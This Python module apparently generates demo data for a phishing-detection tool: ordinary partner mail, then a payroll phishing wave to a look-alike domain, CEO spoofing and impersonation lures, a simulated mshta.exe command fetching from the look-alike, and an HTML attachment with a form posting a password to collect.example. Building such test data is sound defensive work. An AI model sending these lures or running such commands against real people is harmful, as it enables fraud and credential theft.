"""The demo scenario: a month of ordinary mail for a small organization, then an attack.

Ordinary: partners that authenticate properly and that employees write to. Attack: a new sender
mails thirty employees within the hour a link to a look-alike of the organization's domain, one
of them opens it (the proxy saw it) and mshta.exe on that host then fetches from the same site; the CEO's own domain is spoofed from outside; a
free-mail account poses as the CEO; a brand lookalike sends a "Microsoft 365" notice with an
HTML attachment.
"""

from __future__ import annotations

import datetime as dt
import json
import mailbox
from dataclasses import dataclass
from pathlib import Path

from lurewatch.config import Settings
from lurewatch.demo.mailworld import Domain, MailWorld

FIRST_NAMES = [
    "alex",
    "blake",
    "casey",
    "dana",
    "eli",
    "frankie",
    "gale",
    "harper",
    "indy",
    "jordan",
    "kai",
    "logan",
    "morgan",
    "noel",
    "oakley",
    "parker",
    "quinn",
    "reese",
    "sage",
    "taylor",
]
LAST_NAMES = [
    "ng",
    "ortiz",
    "patel",
    "quist",
    "rossi",
    "schmidt",
    "tanaka",
    "ueda",
    "varga",
    "weber",
]
PARTNERS = [
    "acme-supplies.example",
    "globex-logistics.example",
    "initech-legal.example",
    "umbrella-insurance.example",
    "hooli-cloud.example",
    "vandelay-import.example",
]
CEO = "Dana Whitfield"
CLICKER_IP = "10.20.0.14"


@dataclass
class DemoData:
    folder: Path
    settings: Settings
    world: MailWorld
    messages: int


def employees(org: str, n: int = 60) -> list[str]:
    out = []
    for i in range(n):
        out.append(
            f"{FIRST_NAMES[i % len(FIRST_NAMES)]}.{LAST_NAMES[(i // len(FIRST_NAMES) + i) % len(LAST_NAMES)]}@{org}"
        )
    return sorted(set(out))


def _sysmon_events(at: dt.datetime) -> str:
    """Sysmon events in the flattened JSON shape exported by many collectors."""
    guid = "{5b3a6f1e-0d2c-5f0a-0000-0010a1b2c3d4}"
    common = {
        "SourceName": "Microsoft-Windows-Sysmon",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": "ws-14.northwind.example",
        "ProcessGuid": guid,
        "ProcessId": 4412,
        "Image": "C:\\Windows\\System32\\mshta.exe",
        "User": "NORTHWIND\\dana.ortiz",
    }
    start = {
        **common,
        "EventID": 1,
        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S}.120",
        "CommandLine": '"C:\\Windows\\System32\\mshta.exe" https://northwind-payroll.example/confirm',
        "OriginalFileName": "MSHTA.EXE",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "IntegrityLevel": "Medium",
    }
    conn = {
        **common,
        "EventID": 3,
        "UtcTime": f"{at:%Y-%m-%d %H:%M:%S}.900",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIp": CLICKER_IP,
        "SourcePort": 50544,
        "DestinationIp": "203.0.113.80",
        "DestinationHostname": "northwind-payroll.example",
        "DestinationPort": 443,
    }
    return json.dumps(start) + "\n" + json.dumps(conn) + "\n"


def demo_settings(world: MailWorld, folder: Path) -> Settings:
    s = Settings()
    s.assets.mailbox_hosts_file = str(folder / "mailbox-hosts.csv")
    s.organization.domains = [world.org_domain]
    s.organization.vip_names = [CEO]
    s.email_auth.trusted_relays = [world.relay]
    s.source = "demo"
    return s


def build(folder: Path, seed: int = 7) -> DemoData:
    """Write the scenario's mailboxes under `folder`: an mbox of ordinary mail and .eml files."""
    folder.mkdir(parents=True, exist_ok=True)
    world = MailWorld(seed=seed)
    rng = world.rng
    staff = employees(world.org_domain)
    for p in PARTNERS:
        world.add_domain(Domain(p, world.public_ip()))
    start = dt.datetime(2026, 10, 1, 8, 0)
    count = 0
    box = mailbox.mbox(str(folder / "ordinary.mbox"))
    box.lock()
    try:
        for day in range(30):
            for _ in range(12):
                partner = rng.choice(PARTNERS)
                person = f"{rng.choice(FIRST_NAMES)}@{partner}"
                rcpt = rng.choice(staff)
                when = start + dt.timedelta(days=day, minutes=rng.randint(0, 600))
                raw = world.message(
                    person,
                    [rcpt],
                    rng.choice(["Invoice", "Delivery schedule", "Contract draft", "Meeting notes"]),
                    when,
                    f"Hello,\nplease find the update for week {day // 7 + 1}.\nRegards",
                )
                box.add(raw)
                count += 1
                # Employees answer: the partner is someone the organization writes to.
                reply = world.message(
                    rcpt, [person], "Re: update", when + dt.timedelta(hours=1), "Thanks, received."
                )
                box.add(reply)
                count += 1
    finally:
        box.flush()
        box.unlock()
        box.close()
    attack_day = start + dt.timedelta(days=30, hours=1)
    attack = folder / "attack"
    attack.mkdir(exist_ok=True)

    def write(name: str, raw: bytes) -> None:
        nonlocal count
        (attack / name).write_bytes(raw)
        count += 1

    # 1. A new sender reaches thirty mailboxes within the hour (E2). It authenticates its own domain.
    world.add_domain(Domain("payroll-update.example", world.public_ip(), dmarc="v=DMARC1; p=none"))
    for i, rcpt in enumerate(staff[:30]):
        write(
            f"payroll-{i:02d}.eml",
            world.message(
                "notice@payroll-update.example",
                [rcpt],
                "Action required: confirm your payroll details",
                attack_day + dt.timedelta(minutes=2 * i),
                "Your salary payment is on hold. Confirm your bank details today.",
                html='<p>Your salary payment is on hold. <a href="https://northwind-payroll.example/confirm">'
                "Confirm</a></p>",
            ),
        )
    # 1b. One recipient follows the link 25 minutes later: the proxy (Zeek http.log) saw it.
    clicker = staff[3]
    clicked_at = attack_day + dt.timedelta(minutes=6 + 25)
    (folder / "proxy").mkdir(exist_ok=True)
    (folder / "proxy" / "http.log").write_text(
        json.dumps(
            {
                "ts": clicked_at.replace(tzinfo=dt.UTC).timestamp(),
                "uid": "CdemoClick1",
                "id.orig_h": CLICKER_IP,
                "id.orig_p": 51234,
                "id.resp_h": "203.0.113.80",
                "id.resp_p": 80,
                "method": "GET",
                "host": "northwind-payroll.example",
                "uri": "/confirm",
                "status_code": 200,
                "user_agent": "Mozilla/5.0",
            }
        )
        + "\n"
    )
    (folder / "mailbox-hosts.csv").write_text(f"mailbox,ip\n{clicker},{CLICKER_IP}\n")
    # 1c. A minute later mshta.exe on that host fetches from the same look-alike (Sysmon 1 and 3).
    (folder / "endpoint").mkdir(exist_ok=True)
    (folder / "endpoint" / "sysmon.jsonl").write_text(
        _sysmon_events(clicked_at + dt.timedelta(minutes=1))
    )
    # 2. The organization's own domain spoofed from outside: SPF fails, no signature, p=reject (E1).
    write(
        "ceo-spoof.eml",
        world.message(
            f"dana.whitfield@{world.org_domain}",
            [staff[40]],
            "Urgent wire transfer",
            attack_day + dt.timedelta(hours=2),
            "I need you to process a wire today. Keep this confidential.",
            display_name=CEO,
            connecting_ip=world.public_ip(),
            sign_as="",
        ),
    )
    # 3. A free-mail account poses as the CEO and diverts replies (E1: VIP impersonation, Reply-To).
    world.add_domain(Domain("gmail.com", world.public_ip(), dmarc="v=DMARC1; p=none"))
    write(
        "ceo-freemail.eml",
        world.message(
            "dana.whitfield.office@gmail.com",
            [staff[41]],
            "Are you at your desk?",
            attack_day + dt.timedelta(hours=3),
            "I have a quick task for you. Reply to me here.",
            display_name=CEO,
            reply_to="dw.private.assistant@gmail.com",
        ),
    )
    # 4. A lookalike of a well-known brand with an HTML attachment (E1: brand, attachment).
    world.add_domain(Domain("microsoft-365-alerts.example", world.public_ip(), dmarc=None))
    write(
        "brand-lookalike.eml",
        world.message(
            "no-reply@microsoft-365-alerts.example",
            [staff[42]],
            "Your mailbox is almost full",
            attack_day + dt.timedelta(hours=4),
            "Open the attached notice to keep your messages.",
            display_name="Microsoft 365",
            attachments=[
                (
                    "Storage_Notice.htm",
                    "text/html",
                    b"<html><form action='https://collect.example/p'>password</form></html>",
                )
            ],
        ),
    )
    return DemoData(folder, demo_settings(world, folder), world, count)
